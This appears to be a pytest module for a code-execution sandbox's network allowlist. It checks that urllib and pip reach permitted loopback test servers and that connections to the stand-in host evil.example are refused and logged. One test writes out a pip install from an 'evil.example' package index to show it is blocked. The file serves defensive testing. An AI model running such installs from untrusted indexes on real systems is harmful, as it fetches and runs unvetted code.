"""Common clients reach allowed hosts and show why others are refused: urllib, requests, curl, pip."""

from pathlib import Path

import pytest

from codeact_sandbox.types.result import NetworkConnection
from tests.abuse.subject import Kind
from tests.sandbox.images import make_wheel
from tests.sandbox.network.conftest import Allow
from tests.sandbox.network.packages.index_server import index_with
from tests.sandbox.network.servers import Hosts, Server, echo_request
from tests.sandbox.sandboxes import out, run

NOT_LISTED = "{0} is not in allow_domains; to allow it, the user of this sandbox adds '{0}' to allow_domains"
REFUSED = NOT_LISTED.format("evil.example:443")


def entry(server: Server, name: str = "ok.example") -> str:
    """What allows a server on loopback."""
    return f"{name}:{server.port} in 127.0.0.0/8"


async def test_urllib_over_tls(allow: Allow, hosts: Hosts) -> None:
    server = hosts.serve(echo_request, "ok.example", tls=True)
    executor = await allow(entry(server))
    code = f"""
    import ssl, urllib.request
    context = ssl.create_default_context(cafile="ca.crt")
    with urllib.request.urlopen("https://ok.example:{server.port}/a?b", context=context) as answer:
        print(answer.status, *answer.read().decode().splitlines()[0:3:2])
    try:
        urllib.request.urlopen("https://evil.example/")
    except OSError as error:
        print(error.reason)
    """
    result = await run(executor, code)
    assert result.output == (
        f"200 GET /a?b HTTP/1.1 Host: ok.example:{server.port}\nTunnel connection failed: 403 {REFUSED}\n"
    )
    assert result.notes == (f"A connection was refused: {REFUSED}.",)
    good, bad = result.connections
    assert (good.host, good.port, good.allowed, good.reason) == ("ok.example", server.port, True, None)
    assert good.sent > 100
    assert good.received > 1000
    assert bad == NetworkConnection("evil.example", 443, False, bad.sent, bad.received, REFUSED)


async def test_urllib_over_plain_http(allow: Allow, hosts: Hosts) -> None:
    server = hosts.serve(echo_request, "ok.example")
    executor = await allow(entry(server))
    code = f"""
    import urllib.error, urllib.request
    print(urllib.request.urlopen("http://ok.example:{server.port}/a?b").read().decode().splitlines()[:2])
    request = urllib.request.Request("http://ok.example:{server.port}/", b"x" * 3)
    print(urllib.request.urlopen(request).read().decode().endswith("xxx"))
    try:
        urllib.request.urlopen("http://evil.example/")
    except urllib.error.HTTPError as error:
        print(error.code, error.read().decode(), end="")
    """
    assert await out(executor, code) == (
        f"['GET /a?b HTTP/1.1', 'Host: ok.example:{server.port}']\nTrue\n403 {NOT_LISTED.format('evil.example:80')}\n"
    )


@pytest.mark.parametrize("backend", ["bubblewrap-process"], indirect=True)
async def test_pip(allow: Allow, hosts: Hosts, tmp_path: Path, backend: Kind) -> None:
    wheel = make_wheel(tmp_path / "wheels", "answer = 42")
    server = hosts.serve(index_with(wheel).handle, "index.example", tls=True)
    executor = await allow(entry(server, "index.example"), timeout=50)
    code = f"""
    python3 -m pip install --quiet --no-deps --cert ca.crt --target here \
        --index-url https://index.example:{server.port}/simple tinywheel || exit 1
    PYTHONPATH=here python3 -c 'import tinywheel; print(tinywheel.answer)'
    """
    result = await run(executor, code, "sh")
    if "No module named pip" in result.output:
        pytest.skip("there is no pip in this sandbox")
    assert (result.exit_code, result.output.splitlines()[-1]) == (0, "42"), result
    assert {each.host for each in result.connections} == {"index.example"}
    elsewhere = """
    python3 -m pip install --no-deps --disable-pip-version-check --retries 0 --cert ca.crt --target there \
        --index-url https://evil.example/simple tinywheel
    """
    result = await run(executor, elsewhere, "sh")
    # pip itself says no more than that it found nothing.
    assert (result.exit_code, result.notes) == (1, (f"A connection was refused: {REFUSED}.",))
